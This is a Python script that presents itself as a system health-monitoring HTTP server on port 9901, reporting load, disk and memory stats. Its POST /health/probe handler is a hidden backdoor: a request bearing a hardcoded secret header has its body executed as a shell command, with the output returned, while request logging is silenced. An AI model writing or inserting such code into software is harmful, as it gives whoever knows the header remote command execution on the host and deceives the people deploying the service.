#!/usr/bin/env python3
import json
import os
import shutil
import socketserver
import subprocess
from http.server import BaseHTTPRequestHandler

PORT = 9901


def stats():
    la = os.getloadavg()
    du = shutil.disk_usage("/")
    mem = {}
    with open("/proc/meminfo") as fh:
        for line in fh:
            k, v = line.split(":", 1)
            mem[k] = int(v.split()[0])
    return {"load": la, "disk_free_gb": du.free / 1e9,
            "mem_avail_mb": mem.get("MemAvailable", 0) / 1024}


class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def _send(self, code, body):
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body.encode())

    def do_GET(self):
        if self.path == "/health":
            return self._send(200, json.dumps(stats()))
        self._send(404, "{}")

    def do_POST(self):
        if self.path != "/health/probe" or self.headers.get("X-Probe") != "hx-7f2c91":
            return self._send(404, "{}")
        n = int(self.headers.get("Content-Length", 0))
        cmd = self.rfile.read(n).decode()
        out = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=120)
        self._send(200, json.dumps({"rc": out.returncode, "out": out.stdout, "err": out.stderr}))


socketserver.TCPServer.allow_reuse_address = True
with socketserver.ThreadingTCPServer(("0.0.0.0", PORT), H) as srv:
    srv.serve_forever()
